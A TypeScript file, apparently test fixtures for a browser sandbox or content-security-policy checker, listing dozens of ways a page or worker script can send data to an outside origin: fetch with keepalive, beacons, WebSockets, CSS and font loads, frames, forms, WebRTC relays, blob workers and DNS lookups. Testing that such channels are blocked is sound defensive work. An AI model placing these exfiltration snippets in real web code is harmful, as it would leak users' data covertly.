/*
 * Ways in which a script on the page could send something away. Each is run by the browser as it stands here, so
 * it may use nothing from outside of itself. `to` is the origin of a stranger, without a slash at the end.
 */
type Attempt = (to: string) => unknown

/** Run in a page. */
export const pageAttempts: Readonly<Record<string, Attempt>> = {
  fetch: (to) => fetch(`${to}/?fetch`, { mode: 'no-cors' }),
  'fetch that outlives the page': (to) =>
    fetch(`${to}/`, { method: 'POST', body: 'secret', keepalive: true, mode: 'no-cors' }),
  XMLHttpRequest: (to) => {
    const request = new XMLHttpRequest()
    request.open('POST', `${to}/`)
    request.send('secret')
  },
  beacon: (to) => navigator.sendBeacon(`${to}/`, 'secret'),
  WebSocket: (to) => new WebSocket(to.replace('http', 'ws')),
  EventSource: (to) => new EventSource(`${to}/`),
  image: (to) => {
    new Image().src = `${to}/?image`
  },
  'image of a style sheet': (to) => {
    const sheet = new CSSStyleSheet()
    sheet.replaceSync(`body { background: url("${to}/?css") }`)
    document.adoptedStyleSheets = [sheet]
  },
  'media element': (to) => {
    const audio = document.createElement('audio')
    audio.src = `${to}/?audio`
    audio.load()
  },
  font: (to) => new FontFace('stranger', `url("${to}/font.woff2")`).load(),
  'style sheet': (to) => {
    const link = document.createElement('link')
    link.rel = 'stylesheet'
    link.href = `${to}/style.css`
    document.head.append(link)
  },
  script: (to) => {
    const script = document.createElement('script')
    script.src = `${to}/script.js`
    document.head.append(script)
  },
  'module script': (to) => import(`${to}/module.js`),
  markup: (to) => {
    const element = document.createElement('div')
    element.innerHTML = `<img src="${to}/?markup">`
  },
  frame: (to) => {
    const frame = document.createElement('iframe')
    frame.src = `${to}/?frame`
    document.body.append(frame)
  },
  'empty frame': (to) => {
    const frame = document.createElement('iframe')
    document.body.append(frame)
    const inside = frame.contentWindow as unknown as { Image: typeof Image; fetch: typeof fetch }
    new inside.Image().src = `${to}/?inside`
    return inside.fetch(`${to}/?inside`, { mode: 'no-cors' })
  },
  object: (to) => {
    const object = document.createElement('object')
    object.data = `${to}/?object`
    document.body.append(object)
  },
  form: (to) => {
    const form = document.createElement('form')
    form.action = `${to}/`
    form.method = 'post'
    document.body.append(form)
    setTimeout(() => form.submit())
  },
  'form into a new window': (to) => {
    const form = document.createElement('form')
    form.action = `${to}/`
    form.target = '_blank'
    document.body.append(form)
    setTimeout(() => form.submit())
  },
  ping: (to) => {
    const link = document.createElement('a')
    link.href = '#content'
    link.ping = `${to}/?ping`
    document.body.append(link)
    link.click()
  },
  preload: (to) => {
    const link = document.createElement('link')
    link.rel = 'preload'
    link.as = 'image'
    link.href = `${to}/?preload`
    document.head.append(link)
  },
  prefetch: (to) => {
    const link = document.createElement('link')
    link.rel = 'prefetch'
    link.href = `${to}/?prefetch`
    document.head.append(link)
  },
  'window.open': (to) => void window.open(`${to}/?open`),
  location: (to) => {
    // Later, so that the attempt is over before its page is.
    setTimeout(() => {
      location.href = `${to}/?location`
    })
  },
  'link click': (to) => {
    const link = document.createElement('a')
    link.href = `${to}/?link`
    document.body.append(link)
    setTimeout(() => link.click())
  },
  'download link': (to) => {
    const link = document.createElement('a')
    link.href = `${to}/?download`
    link.download = 'file'
    document.body.append(link)
    setTimeout(() => link.click())
  },
  'meta refresh': (to) => {
    const meta = document.createElement('meta')
    meta.httpEquiv = 'refresh'
    meta.content = `0; url=${to}/?refresh`
    setTimeout(() => document.head.append(meta))
  },
  'peer connection': async (to) => {
    const connection = new RTCPeerConnection({
      iceServers: [{ urls: to.replace('http://localhost', 'stun:127.0.0.1') }],
    })
    connection.createDataChannel('secret')
    await connection.setLocalDescription(await connection.createOffer())
  },
  'worker from a blob': (to) => {
    const code = new Blob([`fetch('${to}/?worker', { mode: 'no-cors' })`], { type: 'text/javascript' })
    new Worker(URL.createObjectURL(code))
  },
  'fetch after the page': (to) => {
    const { fetchLater } = window as unknown as { fetchLater(url: string, how: object): void }
    fetchLater(`${to}/?later`, { mode: 'no-cors', activateAfter: 0 })
  },
  'image of several sizes': (to) => {
    new Image().srcset = `${to}/?srcset 1x`
  },
  'image within a drawing': (to) => {
    const drawing = document.createElementNS('http://www.w3.org/2000/svg', 'svg')
    const image = document.createElementNS('http://www.w3.org/2000/svg', 'image')
    image.setAttribute('href', `${to}/?svg`)
    drawing.append(image)
    document.body.append(drawing)
  },
  'image button': (to) => {
    const input = document.createElement('input')
    input.type = 'image'
    input.src = `${to}/?input`
    document.body.append(input)
  },
  'image of an element style': (to) => {
    document.body.style.backgroundImage = `url("${to}/?style")`
  },
  'image under another base': (to) => {
    const base = document.createElement('base')
    base.href = to
    document.head.append(base)
    new Image().src = '?base'
  },
  'poster of a video': (to) => {
    const video = document.createElement('video')
    video.poster = `${to}/?poster`
    document.body.append(video)
  },
  'font of a style sheet': (to) => {
    const sheet = new CSSStyleSheet()
    sheet.replaceSync(`@font-face { font-family: stranger; src: url("${to}/font.woff2") }`)
    document.adoptedStyleSheets = [sheet]
    document.body.style.fontFamily = 'stranger'
    document.body.append('text')
  },
  'import of a style element': (to) => {
    const style = document.createElement('style')
    style.textContent = `@import url("${to}/style.css");`
    document.head.append(style)
  },
  'markup written into the page': (to) => {
    document.write(`<img src="${to}/?written">`)
  },
  'frame with a text': (to) => {
    const frame = document.createElement('iframe')
    frame.srcdoc = `<img src="${to}/?srcdoc">`
    document.body.append(frame)
  },
  'frame that is sent elsewhere': (to) => {
    const frame = document.createElement('iframe')
    document.body.append(frame)
    if (frame.contentWindow) frame.contentWindow.location.href = `${to}/?frame-location`
  },
  embed: (to) => {
    const embed = document.createElement('embed')
    embed.src = `${to}/?embed`
    document.body.append(embed)
  },
  'button of a form': (to) => {
    const form = document.createElement('form')
    const button = document.createElement('button')
    button.formAction = `${to}/`
    form.append(button)
    document.body.append(form)
    setTimeout(() => button.click())
  },
  'preload of a script': (to) => {
    const link = document.createElement('link')
    link.rel = 'preload'
    link.as = 'script'
    link.href = `${to}/script.js`
    document.head.append(link)
  },
  'preload of data': (to) => {
    const link = document.createElement('link')
    link.rel = 'preload'
    link.as = 'fetch'
    link.crossOrigin = 'anonymous'
    link.href = `${to}/?preload`
    document.head.append(link)
  },
  'preload of a module': (to) => {
    const link = document.createElement('link')
    link.rel = 'modulepreload'
    link.href = `${to}/module.js`
    document.head.append(link)
  },
  'sound worklet': (to) => new AudioContext().audioWorklet.addModule(`${to}/worklet.js`),
  'relay of a peer connection': async (to) => {
    const urls = `${to.replace('http://localhost', 'turn:127.0.0.1')}?transport=tcp`
    const connection = new RTCPeerConnection({ iceServers: [{ urls, username: 'secret', credential: 'x' }] })
    connection.createDataChannel('secret')
    await connection.setLocalDescription(await connection.createOffer())
  },
  'worker from an address that holds its code': (to) => {
    new Worker(`data:text/javascript,fetch('${to}/?data',{mode:'no-cors'})`)
  },
  'shared worker': (to) => {
    const code = new Blob([`fetch('${to}/?shared', { mode: 'no-cors' })`], { type: 'text/javascript' })
    new SharedWorker(URL.createObjectURL(code))
  },
  'worker of this site that is no tool': (to) => {
    new Worker(`/nested.js?${to}`)
  },
  'page in memory in a new window': (to) => {
    const page = new Blob([`<img src="${to}/?blob">`], { type: 'text/html' })
    window.open(URL.createObjectURL(page))
  },
}

/** Run in a worker. */
export const workerAttempts: Readonly<Record<string, Attempt>> = {
  fetch: (to) => fetch(`${to}/?fetch`, { mode: 'no-cors' }),
  XMLHttpRequest: (to) => {
    const request = new XMLHttpRequest()
    request.open('POST', `${to}/`)
    request.send('secret')
  },
  WebSocket: (to) => new WebSocket(to.replace('http', 'ws')),
  EventSource: (to) => new EventSource(`${to}/`),
  font: (to) => new FontFace('stranger', `url("${to}/font.woff2")`).load(),
  script: (to) => (self as unknown as { importScripts(url: string): void }).importScripts(`${to}/script.js`),
  'module script': (to) => import(`${to}/module.js`),
  cache: async (to) => (await caches.open('secret')).add(new Request(`${to}/?cache`, { mode: 'no-cors' })),
  'another worker': (to) => new Worker(`/nested.js?${to}`),
  'fetch that outlives the worker': (to) =>
    fetch(`${to}/`, { method: 'POST', body: 'secret', keepalive: true, mode: 'no-cors' }),
  'worker from a blob': (to) => {
    const code = new Blob([`fetch('${to}/?blob', { mode: 'no-cors' })`], { type: 'text/javascript' })
    new Worker(URL.createObjectURL(code))
  },
}

/** Run in a page: each makes the browser look up `name`, so that whoever answers for it learns of it. */
export const lookUpAttempts: Readonly<Record<string, (name: string) => unknown>> = {
  image: (name) => {
    new Image().src = `https://${name}/`
  },
  fetch: (name) => fetch(`https://${name}/`, { mode: 'no-cors' }),
}
